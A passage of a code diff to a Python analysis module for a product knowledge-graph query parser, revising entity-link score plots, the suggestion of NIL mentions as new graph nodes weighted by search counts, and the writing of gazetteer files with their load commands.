-        elif kg is not None and m.nil and m.norm:
-            cands = _link(kg, m.text, m.label, m.query).candidates
+        elif linker is not None and m.nil and m.norm:
+            cands = _link(linker, m.text, m.label, m.query).candidates
             if cands:
                 rejected.append(round(cands[0].score, 6))
-    threshold = LinkerConfig().nil_threshold
-    linker = getattr(kg, "_linker", None)
-    if linker is not None:
-        threshold = linker.config.nil_threshold
-    return LinkScores(linked=linked, rejected=rejected, threshold=threshold)
+                if cands[0].type_compatibility == 0.0:
+                    rejected_type.append(rejected[-1])
+    config = getattr(linker, "config", None)
+    threshold = config.nil_threshold if config is not None else LinkerConfig().nil_threshold
+    return LinkScores(linked=linked, rejected=rejected, threshold=threshold,
+                      rejected_type=rejected_type)
 
 
 def plot_link_scores(ax: Any, scores: LinkScores, *, bins: int = 20, title: str | None = None
                      ) -> Any:
     """Stacked histogram of :class:`LinkScores` on matplotlib ``ax`` with the NIL threshold.
 
-    Rejected candidates above the threshold were rejected for their type (a node kind the
-    tagger label may not link to)."""
+    Rejected candidates at or above the threshold are counted in a note on the plot: those
+    the linker ruled out for their type (:attr:`LinkScores.rejected_type`), and any others,
+    of a kind the label may link to: scores of another linker than the parse's
+    (:func:`link_scores` without ``parser``), which the parse never gave."""
     edges, linked, rejected = scores.histogram(bins=bins)
     width = edges[1] - edges[0]
     ax.bar(edges[:-1], linked, width=width, align="edge", color="#2b8cbe", edgecolor="white",
@@ -752,6 +1041,14 @@ def plot_link_scores(ax: Any, scores: LinkScores, *, bins: int = 20, title: str 
     ax.set_xlim(edges[0], edges[-1])
     ax.set_ylim(0, max([a + b for a, b in zip(linked, rejected, strict=True)] + [1]) * 1.3)
     ax.yaxis.set_major_locator(MaxNLocator(integer=True))
+    above = sum(v >= scores.threshold for v in scores.rejected)
+    if above:
+        of_type = sum(v >= scores.threshold for v in scores.rejected_type)
+        parts = [f"{of_type} for their type"] if of_type else []
+        if above > of_type:
+            parts.append(f"{above - of_type} of a kind the label may link to")
+        ax.text(0.99, 0.97, "\n".join(["rejected at or above the threshold:", *parts]),
+                transform=ax.transAxes, ha="right", va="top", fontsize=7)
     ax.set_xlabel("link score")
     ax.set_ylabel("mentions")
     ax.set_title(title or "Distribution of entity-link scores")
@@ -843,12 +1140,12 @@ def draw_subgraph(ax: Any, g: nx.MultiDiGraph, *, seed: int = 0, max_label: int 
 @dataclass(frozen=True, slots=True)
 class AdditionRow:
     """A name to add to the KG as a node of ``node_kind`` (``attribute`` for attribute values),
-    seen ``count`` times as a NIL mention."""
+    a NIL mention in queries searched ``count`` times (a query once)."""
 
     name: str
     node_kind: str
     attribute: str | None
-    count: int
+    count: float
     labels: tuple[str, ...]
     example: str
 
@@ -860,54 +1157,89 @@ STOPWORDS = frozenset([
     "of", "off", "on", "or", "the", "to", "up", "with", "without", "w/", "w/o",
 ])
 
+#: Why :func:`kg_additions` leaves out a name the KG has (:func:`_in_kg`), for its log.
+_LEFT_OUT = {
+    IN_KG_NOT_LINKABLE: "only on nodes marked non-linkable (lexicon only: loading the name "
+                        "again changes nothing; make it an alias of a linkable node)",
+    IN_KG_OTHER_KIND: "as another kind (a tagger error: see type_confusions)",
+    IN_KG_LINKABLE: "on a linkable node the linker did not take (see drill_down)",
+}
+
 
 def kg_additions(parsed: Iterable[ParsedQuery] | Rows[Mention], kg: ProductGraph | None = None,
-                 *, min_count: int = 1, min_score: float = 0.0,
+                 *, min_count: float = 1, min_score: float = 0.0,
                  kinds: Mapping[str, tuple[str, str | None]] | None = None,
-                 stopwords: frozenset[str] = STOPWORDS) -> Rows[AdditionRow]:
-    """What to add to the KG: NIL mentions as candidate nodes, most frequent first.
+                 stopwords: frozenset[str] = STOPWORDS,
+                 searches: Sequence[float] | None = None) -> Rows[AdditionRow]:
+    """What to add to the KG: NIL mentions as candidate nodes, most searched first.
 
     Each NIL mention becomes a node of the kind its tagger label maps to (:data:`ADDITION_KINDS`;
-    a name seen with several labels takes the most frequent). Skipped: names without a letter
-    (sizes, model numbers), ``stopwords`` (:data:`STOPWORDS`), tagger scores below
-    ``min_score``, names seen fewer than ``min_count`` times and, with ``kg``, names the KG
-    already has as a name or alias of any node: of another kind (a tagger error, see
-    :func:`type_confusions`, not a KG gap), or of a node marked non-linkable (lexicon only:
-    loading the name again would change nothing).
+    a name seen with several labels takes the most frequent). ``count``: the searches of the
+    queries that hold it (``searches``: each parsed query's, in order, e.g. a
+    :class:`QueryLog`'s; default 1 each), a query counted once. Skipped: names without a
+    letter (sizes, model numbers), ``stopwords`` (:data:`STOPWORDS`), tagger scores below
+    ``min_score``, names whose ``count`` is below ``min_count`` and, with ``kg``, names the KG
+    already has as a name or alias of any node (the ``in_kg`` of :func:`nil_mentions`): of a
+    node marked non-linkable (lexicon only: loading the name again would change nothing), of
+    another kind (a tagger error, see :func:`type_confusions`, not a KG gap) or of a node the
+    linker did not take. How many names (and searches) were left out for each reason is
+    logged at INFO level.
     """
     table = ADDITION_KINDS if kinds is None else kinds
     groups: dict[str, list[Mention]] = defaultdict(list)
-    for m in _as_mentions(parsed):
-        if (m.nil and m.label in table and m.score >= min_score
-                and _HAS_LETTER.search(m.text) and m.norm not in stopwords):
-            groups[m.norm].append(m)
+    counts: Counter[str] = Counter()
+    for ms in _by_query(parsed, searches):
+        seen: set[str] = set()
+        for m in ms:
+            if (m.nil and m.label in table and m.score >= min_score
+                    and _HAS_LETTER.search(m.text) and m.norm not in stopwords):
+                groups[m.norm].append(m)
+                if m.norm not in seen:  # a repeat inside one query is no other search
+                    seen.add(m.norm)
+                    counts[m.norm] += m.searches
+    unlinkable: frozenset[str] = frozenset()
+    if kg is not None:
+        from kg.link import unlinkable_iris
+
+        unlinkable = unlinkable_iris(kg)
+    left: Counter[str] = Counter()
+    left_searches: Counter[str] = Counter()
     rows: Rows[AdditionRow] = Rows(row_type=AdditionRow)
     for norm, ms in groups.items():
-        if len(ms) < min_count:
+        if counts[norm] < min_count:
+            left["rare"] += 1
+            left_searches["rare"] += counts[norm]
             continue
-        if kg is not None:
-            known = kg.alias_index.lookup(ms[0].text)
-            if known:
-                logger.debug("kg_additions: %r is already a name of %s in the KG", norm,
-                             ", ".join(sorted({c.kind.value for c in known if c.kind})))
-                continue
-            best = kg.link(ms[0].text, label=None).best
-            if best is not None and best.match_type in ("exact", "alias"):  # plural, possessive
-                logger.debug("kg_additions: %r is already a %s in the KG", norm, best.kind)
-                continue
         label_counts = Counter(m.label for m in ms)
-        kind, attribute = table[label_counts.most_common(1)[0][0]]
+        top_label = label_counts.most_common(1)[0][0]
+        if kg is not None:
+            reason, of = _in_kg(kg, ms[0].text, top_label, unlinkable)
+            if reason != ABSENT:
+                logger.debug("kg_additions: %r is already %s", norm,
+                             f"{reason}: {', '.join(of)}")
+                left[reason] += 1
+                left_searches[reason] += counts[norm]
+                continue
+        kind, attribute = table[top_label]
         name = Counter(m.text.strip() for m in ms).most_common(1)[0][0]
-        rows.append(AdditionRow(name=name, node_kind=kind, attribute=attribute, count=len(ms),
+        rows.append(AdditionRow(name=name, node_kind=kind, attribute=attribute,
+                                count=counts[norm],
                                 labels=tuple(lab for lab, _ in label_counts.most_common()),
                                 example=ms[0].query))
     rows.sort(key=lambda r: (-r.count, r.node_kind, r.name))
+    if left:
+        why = [f"{left[r]} names ({left_searches[r]} searches) the KG has {_LEFT_OUT[r]}"
+               for r in _LEFT_OUT if left[r]]
+        if left["rare"]:
+            why.append(f"{left['rare']} names searched fewer than min_count={min_count} times")
+        logger.info("kg_additions: %d names suggested; left out: %s", len(rows), "; ".join(why))
     return rows
 
 
 @dataclass(frozen=True, slots=True)
 class GazetteerFile:
-    """A gazetteer written by :func:`write_gazetteers` and the command that loads it."""
+    """A gazetteer written by :func:`write_gazetteers` and the command that loads it;
+    ``dropped``: names left out of it, as ``kgqp kg load`` would refuse them."""
 
     path: str
     node_kind: str
@@ -915,49 +1247,90 @@ class GazetteerFile:
     names: int
     command: str
     source: str = "kgqp-analysis"
+    #: what a bad row does: "abort" loads nothing of the file (``kgqp kg load``'s default)
+    on_error: str = "abort"
+    dropped: tuple[str, ...] = ()
 
     @property
     def options(self) -> dict[str, str]:
-        """The gazetteer loader's options (``kgqp kg load ... --node-kind K --option k=v``)."""
+        """The gazetteer loader's options (``kgqp kg load ... --node-kind K --option k=v
+        --on-error E``)."""
         opts = {"node_kind": self.node_kind}
         if self.attribute:
             opts["attribute"] = self.attribute
-        return {**opts, "source": self.source}
+        return {**opts, "source": self.source, "on_error": self.on_error}
+
+
+def _gazetteer_key(kind: str, attribute: str | None, name: str) -> str:
+    """The key the gazetteer loader gives ``name`` in a file of ``kind`` nodes
+    (:func:`kg.loaders.gazetteer.load_gazetteer`; a category's key has the file's source
+    before it): two names of one key are one node to the loader, which refuses the second
+    when they are not the same name up to case, spaces and symbols ("s10" and "s10+")."""
+    if kind == "brand":
+        return brand_key(name)
+    if kind == "attribute_value":
+        return attribute_key(attribute or "", name)
+    return slug(name)
 
 
 def write_gazetteers(rows: Iterable[AdditionRow], out_dir: str | Path, *, kg_dir: str = "KGDIR",
                      source: str = "kgqp-analysis") -> Rows[GazetteerFile]:
     """Write ``rows`` as gazetteer files under ``out_dir``, one name per line, one file per node
     kind (and attribute): ``brand.txt``, ``attribute_value-color.txt`` ... Each comes with its
-    ``kgqp kg load`` command (``kg_dir`` is put in the command as is)."""
+    ``kgqp kg load`` command (``kg_dir`` is put in the command as is), which loads the whole
+    file or nothing (``--on-error abort``). Of names the loader gives one key ("s10" and
+    "s10+", which it would refuse together), the most searched is written and the others are
+    left out (``GazetteerFile.dropped``, logged as a warning)."""
     import shlex
+
+    from kg.loaders.gazetteer import load_gazetteer
+    from kg.schema import LoadReport
 
     out = Path(out_dir)
     out.mkdir(parents=True, exist_ok=True)
-    by: dict[tuple[str, str | None], list[str]] = defaultdict(list)
+    by: dict[tuple[str, str | None], list[AdditionRow]] = defaultdict(list)
     for r in rows:
-        by[(r.node_kind, r.attribute)].append(r.name)
+        by[(r.node_kind, r.attribute)].append(r)
     files: Rows[GazetteerFile] = Rows(row_type=GazetteerFile)
-    for (kind, attribute), names in sorted(by.items(), key=lambda kv: (kv[0][0], kv[0][1] or "")):
+    for (kind, attribute), group in sorted(by.items(), key=lambda kv: (kv[0][0], kv[0][1] or "")):
         path = out / (f"{kind}-{attribute}.txt" if attribute else f"{kind}.txt")
+        kept: dict[str, str] = {}  # the loader's key -> the name written
+        dropped: list[str] = []
+        for r in sorted(group, key=lambda r: -r.count):  # (stable: the rows' order in a tie)
+            key = _gazetteer_key(kind, attribute, r.name)
+            if key in kept:
+                dropped.append(r.name)
+                logger.debug("write_gazetteers: %r has the loader's key of %r (%s)", r.name,
+                             kept[key], key)
+            else:
+                kept[key] = r.name
+        names = list(kept.values())
         atomic_write_text(path, "".join(n + "\n" for n in names))
         f = GazetteerFile(path=str(path), node_kind=kind, attribute=attribute, names=len(names),
-                          command="", source=source)
+                          command="", source=source, dropped=tuple(dropped))
+        # the file as its command reads it: a row it would refuse raises here, not there
+        list(load_gazetteer(path, report=LoadReport(str(path)), **f.options))
         cmd = ["kgqp", "kg", "load", kg_dir, str(path), "--kind", "gazetteer",
                "--node-kind", kind]
         for k, v in f.options.items():
-            if k != "node_kind":
+            if k not in ("node_kind", "on_error"):
                 cmd += ["--option", f"{k}={v}"]
+        cmd += ["--on-error", f.on_error]
         files.append(replace(f, command=shlex.join(cmd)))
+        if dropped:
+            logger.warning("%s: left out %d names that share the gazetteer loader's key with a "
+                           "more searched one (it loads one name per key), e.g. %s", path,
+                           len(dropped), ", ".join(map(repr, dropped[:5])))
         logger.info("wrote %d %s names to %s", len(names), kind, path)
     return files
 
 
 def kg_with_additions(kg: ProductGraph, files: Iterable[GazetteerFile]) -> Path:
-    """A scratch copy of ``kg`` with the gazetteer ``files`` loaded (one transaction each, as
-    their commands would): the "after" side of :func:`compare_parses`. The copy lives in a
-    temporary directory that is removed when the process (the notebook's kernel) exits; the
-    bundle's KG is never written.
+    """A scratch copy of ``kg`` with the gazetteer ``files`` loaded (one transaction each, with
+    their ``on_error``, as their commands would: with ``abort``, a file the loader refuses
+    raises here as the command fails): the "after" side of :func:`compare_parses`. The copy
+    lives in a temporary directory that is removed when the process (the notebook's kernel)
+    exits; the bundle's KG is never written.
 
     >>> import tempfile
     >>> from kg import ProductGraph
@@ -1078,8 +1451,10 @@ class DrillDown:
 
 def drill_down(parser: Any, query: str, *, candidates: int = 5) -> DrillDown:
     """Parse ``query`` with ``parser`` (:class:`parser.QueryParser`) and lay out every step:
-    the spans and their link decisions, the top ``candidates`` KG candidates of each span with
-    the linker's features, the intent's top-k and the expansions with their provenance.
+    the spans and their link decisions (the parse's), the top ``candidates`` KG candidates of
+    each span with the features of the linker the parser links with (its bundle's settings,
+    told its tagger's vocabulary), the intent's top-k and the expansions with their
+    provenance.
 
     >>> from kg import ProductGraph
     >>> from parser.pipeline import QueryParser
@@ -1091,14 +1466,11 @@ def drill_down(parser: Any, query: str, *, candidates: int = 5) -> DrillDown:
     q = parser(query)
     lk = parser.linker.config.label_kinds if getattr(parser, "linker", None) is not None \
         else DEFAULT_LABEL_KINDS
-    link = parser.linker.link if getattr(parser, "linker", None) is not None else parser.kg.link
+    linker = _linker(parser.kg, parser)
     spans: Rows[SpanRow] = Rows(row_type=SpanRow)
     cands: Rows[CandidateRow] = Rows(row_type=CandidateRow)
     for e in q.entities:
-        try:
-            res = link(e.text, label=e.label, context=q.text)
-        except ValueError:  # a label the linker does not know: linked without a type
-            res = link(e.text, label=None, context=q.text)
+        res = _link(linker, e.text, e.label, q.text)
         decision = "linked" if e.kg_id else ("NIL" if _linkable(e.label, lk) else "not linkable")
         spans.append(SpanRow(text=e.text, start=e.start, end=e.end, label=e.label,
                              tag_score=e.score, decision=decision, kg_label=e.kg_label,
